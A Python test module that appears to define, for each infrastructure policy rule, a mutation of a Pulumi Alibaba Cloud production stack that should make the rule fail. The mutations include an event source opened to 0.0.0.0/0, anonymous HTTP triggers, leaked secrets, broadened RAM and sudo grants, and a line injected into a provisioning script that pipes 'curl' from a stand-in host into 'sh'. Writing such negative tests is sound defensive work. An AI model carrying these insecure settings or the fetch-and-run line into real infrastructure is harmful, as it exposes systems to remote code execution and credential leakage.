"""For each rule a way to spoil the project's own production program so that this rule breaks.

A mutation changes what the program sends for one resource, or the stack's configuration, or adds
statements at the end of the program.
"""

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from google.protobuf import json_format
from pulumi.runtime.proto import resource_pb2

from tests.unit.policies.sample_stack import ROBOT, trust

Request = resource_pb2.RegisterResourceRequest
_SIGNATURE = "4dabf18193072939515e22adb298388d"

ABSENT = object()


@dataclass(frozen=True)
class Mutation:
    """What is different from the program of stack ``prod``."""

    request: Callable[[Request], None] | None = None
    config: dict[str, str] | None = None
    """Texts in the configuration -> what stands there instead."""
    program: str = ""
    """Statements at the end of the program; ``alicloud`` and ``loop`` are there."""


def inputs(name: str, /, **changes: Any) -> Mutation:
    """Set inputs of the resource with this name; ``a__0__b`` is a path, ABSENT takes away.

    A change that is a function is given the present value.
    """

    def change(request: Request) -> None:
        if request.name != name:
            return
        values = json_format.MessageToDict(request.object)
        for path, value in changes.items():
            _set(values, path.split("__"), value)
        request.object.Clear()
        request.object.update(values)

    return Mutation(change)


def options(name: str, change: Callable[[Request], None]) -> Mutation:
    """Change the options of the resource with this name."""
    return Mutation(lambda request: change(request) if request.name == name else None)


def script(change: Callable[[str], str]) -> Mutation:
    """Change the script that gives a role."""

    def encoded(content: str) -> str:
        return base64.b64encode(change(base64.b64decode(content).decode()).encode()).decode()

    return inputs("loop-provision-command", commandContent=encoded)


def _set(holder: Any, path: list[str], value: Any) -> None:
    for step in path[:-1]:
        holder = _inside(holder)
        holder = holder[int(step)] if isinstance(holder, list) else holder[step]
    holder = _inside(holder)
    key: Any = int(path[-1]) if isinstance(holder, list) else path[-1]
    if value is ABSENT:
        del holder[key]
    else:
        holder[key] = value(holder[key]) if callable(value) else value


def _inside(value: Any) -> Any:
    """Return what a secret holds."""
    return value["value"] if isinstance(value, dict) and _SIGNATURE in value else value


def _plain_environment(request: Request) -> None:
    """Take the mark of a secret off the variables of the function that posts to chats."""
    if request.name == "loop-chats-post-to-chat-function":
        values = json_format.MessageToDict(request.object)
        values["environmentVariables"] = _inside(values["environmentVariables"])
        values["environmentVariables"]["CHATS"] = json.dumps({"ops": {"webhook": ROBOT}})
        request.object.Clear()
        request.object.update(values)


def _with_statement(**statement: Any) -> Callable[[str], str]:
    """Add a statement to a policy's document."""

    def add(text: str) -> str:
        document_ = json.loads(text)
        document_["Statement"].append({"Effect": "Allow", **statement})
        return json.dumps(document_)

    return add


def _pattern(**changes: Any) -> Callable[[str], str]:
    """Change keys of an event pattern."""

    def change(text: str) -> str:
        pattern = json.loads(text) | changes
        return json.dumps({key: value for key, value in pattern.items() if value is not ABSENT})

    return change


_SOURCE = "loop-intake-dingtalk.approval"
_HTTP = "sourceHttpEventParameters"
_ROUTE = "loop-requests-rule"
_CHAT = "loop-chats-results-rule"
_TIMER = "loop-chats-post-to-chat-every-minute"
_LATER = "loop-chats-post-to-chat-asynchronous"
_FUNCTION = "loop-requests-run-command-function"
_POLICY = "loop-results-publish-result-policy"
_ROLE = "loop-results-publish-result-role"
_ROLE_NAME = "acs:ram::1234567890123456:role/a"

_MANY_RULES = """
for number in range(50):
    alicloud.eventbridge.Rule(
        f"more-{number}",
        event_bus_name=settings.prefix,
        rule_name=f"more-{number}",
        filter_pattern='{"source":["another"]}',
        targets=[
            {
                "target_id": "queue",
                "type": "acs.mns.queue",
                "endpoint": "acs:mns:cn-hangzhou:1000000000000002:queues/provisioning-prod-chats",
                "push_retry_strategy": "BACKOFF_RETRY",
                "dead_letter_queue": {
                    "arn": "acs:mns:cn-hangzhou:1000000000000002:"
                    "/queues/provisioning-prod-dead-letters"
                },
                "param_lists": [
                    {
                        "resource_key": "queue",
                        "form": "CONSTANT",
                        "value": "provisioning-prod-chats",
                    },
                    {"resource_key": "Body", "form": "ORIGINAL"},
                ],
            }
        ],
    )
"""

_PART_OF_AN_EVENT = """
alicloud.eventbridge.Rule(
    "part",
    event_bus_name=settings.prefix,
    rule_name="part",
    filter_pattern='{"source":["dingtalk.approval"]}',
    targets=[
        {
            "target_id": "later",
            "type": "acs.mns.queue",
            "endpoint": "acs:mns:cn-hangzhou:1000000000000002:queues/provisioning-prod-later",
            "push_retry_strategy": "BACKOFF_RETRY",
            "dead_letter_queue": {
                "arn": "acs:mns:cn-hangzhou:1000000000000002:/queues/provisioning-prod-dead-letters"
            },
            "param_lists": [
                {
                    "resource_key": "queue",
                    "form": "CONSTANT",
                    "value": "provisioning-prod-later",
                },
                {"resource_key": "Body", "form": "JSONPATH", "value": "$.data.body"},
            ],
        }
    ],
)
"""

_UNHEARD = """
alicloud.cms.Alarm("alarm", project="acs_fc", metric="errors", contact_groups=[])
"""

_ABROAD = """
import pulumi
alicloud.eventbridge.EventBus(
    "abroad",
    event_bus_name="abroad",
    opts=pulumi.ResourceOptions(
        protect=True, provider=alicloud.Provider("abroad", region="me-central-1")
    ),
)
"""

_TRIGGER = """
alicloud.fc.V3Trigger(
    "door",
    function_name="provisioning-prod-run-command",
    trigger_type="http",
    qualifier="LATEST",
    trigger_config='{"authType":"anonymous","methods":["POST"]}',
)
"""

_DOMAIN = """
alicloud.fc.V3CustomDomain(
    "domain", custom_domain_name="loop.example.com", protocol="HTTPS"
)
"""

_IN_ANOTHERS_NAME = """
import pulumi
alicloud.eventbridge.EventSourceV2(
    "forger",
    event_bus_name=settings.prefix,
    event_source_name="ecs.provisioning",
    source_http_event_parameters={
        "type": "HTTPS", "methods": ["POST"], "security_config": "ip", "ips": ["192.0.2.1"]
    },
    opts=pulumi.ResourceOptions(
        protect=True, additional_secret_outputs=["source_http_event_parameters"]
    ),
)
"""

_OVER_HTTP = """
import pulumi
alicloud.eventbridge.EventBus(
    "near",
    event_bus_name="near",
    opts=pulumi.ResourceOptions(
        protect=True, provider=alicloud.Provider("near", region="cn-hangzhou", protocol="HTTP")
    ),
)
"""

_ACCESS_KEY = """
alicloud.ram.AccessKey("key", user_name="somebody")
"""

_PUBLIC_KEY = "key ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA"


def line(text: str) -> Mutation:
    """Put a line into the script that gives a role."""
    return script(lambda whole: whole.replace("\numask", f"\n{text}\numask", 1))


MUTATIONS: dict[str, Mutation] = {
    "eventbridge-region": Mutation(program=_ABROAD),
    "event-bus-protected": options(
        "loop-intake-bus", lambda request: request.ClearField("protect")
    ),
    "event-source-https": inputs(_SOURCE, **{f"{_HTTP}__type": "HTTP&HTTPS"}),
    "event-source-methods": inputs(_SOURCE, **{f"{_HTTP}__methods": ["POST", "GET"]}),
    "event-source-addresses": inputs(_SOURCE, **{f"{_HTTP}__ips": ["0.0.0.0/0"]}),
    "webhook-url-secret": options(
        _SOURCE, lambda request: request.ClearField("additionalSecretOutputs")
    ),
    "rule-dead-letters": inputs(_ROUTE, targets__0__deadLetterQueue=ABSENT),
    "rule-retry": inputs(_ROUTE, targets__0__pushRetryStrategy=ABSENT),
    "rule-pattern-readable": inputs(_CHAT, filterPattern="source == 'ecs.provisioning'"),
    "rule-pattern-narrow": inputs(_CHAT, filterPattern=_pattern(source=ABSENT)),
    "rule-template-untrusted": inputs(
        _CHAT,
        targets__1__paramLists__4={
            "resourceKey": "Body",
            "form": "TEMPLATE",
            "value": '{"user":"$.data.detail.emp_id"}',
            "template": "hello ${user}",
        },
    ),
    "rule-target-https": inputs(
        _CHAT, targets__0__type="http", targets__0__endpoint="http://hooks.example.com/new"
    ),
    "rule-target-region": inputs(
        _ROUTE,
        targets__0__endpoint=lambda arn: arn.replace("cn-hangzhou", "cn-beijing"),
    ),
    "rule-targets-quota": inputs(_ROUTE, targets=lambda targets: targets * 6),
    "rule-enabled": inputs(_ROUTE, status="DISABLE"),
    "chat-refusal-seen": inputs(_CHAT, targets__0__type="acs.dingtalk"),
    "command-encoded": inputs(
        "loop-provision-command", commandContent="echo hello", enableParameter=False
    ),
    "command-size": script(lambda text: f"# {'x' * 18_432}\n{text}"),
    "command-timeout": inputs("loop-provision-command", timeout=ABSENT),
    "command-parameters-enabled": inputs("loop-provision-command", enableParameter=False),
    "command-parameters-quoted": script(
        lambda text: text.replace("\numask", '\nlogger "{{emp_id}}"\numask', 1)
    ),
    "command-parameters-validated": script(lambda text: text.replace("$role =~", "$role ==")),
    "command-stops-on-error": script(lambda text: text.replace("set -Eeuo pipefail", "true")),
    "command-root-stated": script(lambda text: text.replace("root", "administrator")),
    "ram-actions-named": inputs(
        _POLICY,
        policyDocument=_with_statement(Action=["log:*"], Resource="acs:log:*:*:project/a"),
    ),
    "ram-not-action": inputs(
        _POLICY,
        policyDocument=_with_statement(
            Action=["log:GetProject"], NotResource="acs:log:*:*:project/a"
        ),
    ),
    "ram-resources-named": inputs(
        _POLICY, policyDocument=_with_statement(Action=["log:DeleteProject"], Resource="*")
    ),
    "ram-pass-role-narrow": inputs(
        _POLICY, policyDocument=_with_statement(Action=["ram:PassRole"], Resource=_ROLE_NAME)
    ),
    "ram-trust-narrow": inputs(_ROLE, assumeRolePolicyDocument=trust({"RAM": ["*"]})),
    "ram-principal-list": inputs(
        _ROLE, assumeRolePolicyDocument=trust({"Service": "fc.aliyuncs.com"})
    ),
    "ram-system-policy-narrow": inputs(
        "loop-archive-attachment", policyType="System", policyName="AliyunLogFullAccess"
    ),
    "function-runtime": inputs(_FUNCTION, runtime="python3.9"),
    "function-timeout": inputs(_FUNCTION, timeout=ABSENT),
    "function-logs": inputs(_FUNCTION, logConfig=ABSENT),
    "function-environment-size": inputs(_FUNCTION, environmentVariables__LOOP="x" * 4_096),
    "function-calls-https": Mutation(config={"https://hr.": "http://hr."}),
    "function-trigger-authenticated": Mutation(program=_TRIGGER),
    "secret-in-environment": Mutation(_plain_environment),
    "secret-in-target": inputs(_CHAT, targets__1__paramLists__4__value=f"{ROBOT}&timestamp=0"),
    "secret-in-command": script(lambda text: f"{text}# see {ROBOT}\n"),
    "queue-retention": Mutation(config={"604800": "3600"}),
    "queue-reader-called": inputs(_TIMER, triggerType="oss"),
    "queue-visibility": inputs(
        "loop-chats-post-to-chat-policy",
        policyDocument=lambda text: text.replace("mns:ChangeMessageVisibility", "mns:SendMessage"),
    ),
    "target-queue-exists": inputs(_CHAT, targets__0__paramLists__0__value="another"),
    "queued-command-gets-complete-event": Mutation(program=_PART_OF_AN_EVENT),
    "trigger-on": inputs(_TIMER, triggerConfig='{"cronExpression":"@every 1m","enable":false}'),
    "trigger-function-exists": inputs(_LATER, functionName="another"),
    "async-destinations-both": inputs(
        _LATER,
        destinationConfig={
            "onFailure": {"destination": "acs:mns:cn-hangzhou:1:/queues/provisioning-prod-dead"}
        },
    ),
    "alarm-heard": Mutation(program=_UNHEARD),
    "log-retention": Mutation(config={'"function_logs_days": 90': '"function_logs_days": 3'}),
    "resource-tags": inputs("loop-dead-letters-queue", tags=ABSENT),
    "source-has-rule": inputs(_ROUTE, filterPattern=_pattern(source=["lark.approval"])),
    "source-guarded": Mutation(
        config={
            '"token_required": true, "allowed_ips": ["203.0.113.10", "203.0.113.11"], "endpoint"': (
                '"endpoint"'
            )
        }
    ),
    "source-name-unique": inputs("loop-intake-dingtalk.member", eventSourceName="lark.approval"),
    "target-function-exists": inputs(
        _ROUTE, targets__1__endpoint=lambda arn: f"{arn}-of-another-stack"
    ),
    "dead-letter-queue-exists": inputs(
        _ROUTE, targets__0__deadLetterQueue__arn=lambda arn: f"{arn}-of-another-stack"
    ),
    "chat-hears-both-outcomes": inputs(_CHAT, ruleName="completed-everybody"),
    "command-gets-complete-event": inputs(
        _ROUTE,
        targets__1__paramLists__4={
            "resourceKey": "Body",
            "form": "JSONPATH",
            "value": "$.data.body",
        },
    ),
    "command-end-heard": inputs(
        "loop-results-rule", filterPattern=_pattern(data={"commandName": ["another"]})
    ),
    "bus-rules-quota": Mutation(program=_MANY_RULES),
    "function-role-own": inputs(
        "loop-onboarding-call-http-api-function",
        role="acs:ram::1000000000000002:role/provisioning-prod-publish-result",
    ),
    "ram-document-readable": inputs(_POLICY, policyDocument="{"),
    "property-current": inputs("loop-dead-letters-queue", name="dead-letters"),
    "ram-hands-nothing-on": inputs(
        _POLICY, policyDocument=_with_statement(Action=["ram:UpdateRole"], Resource=_ROLE_NAME)
    ),
    "ram-attached-policy-seen": inputs("loop-archive-attachment", policyName="another"),
    "function-domain-authenticated": Mutation(program=_DOMAIN),
    "secret-in-property": inputs(_FUNCTION, description=ROBOT),
    "event-source-own-name": Mutation(program=_IN_ANOTHERS_NAME),
    "command-readable": inputs("loop-provision-command", type="RunPowerShellScript"),
    "command-fetches-https": line("curl http://a.example.com/b"),
    "command-runs-what-it-holds": line("curl -s https://a.example.com/b | sh"),
    "command-sudo-narrow": script(
        lambda text: text.replace("/usr/bin/systemctl restart app.service", "ALL")
    ),
    "command-groups-narrow": script(lambda text: text.replace("groups dba", "groups docker")),
    "command-keys-personal": script(
        lambda text: text.replace("groups dba", f"groups dba\n{_PUBLIC_KEY} a\n{_PUBLIC_KEY} b")
    ),
    "command-accounts-end": script(lambda text: text.replace("expires 365\n", "")),
    "resource-type-known": Mutation(program=_ACCESS_KEY),
    "provider-https": Mutation(program=_OVER_HTTP),
}
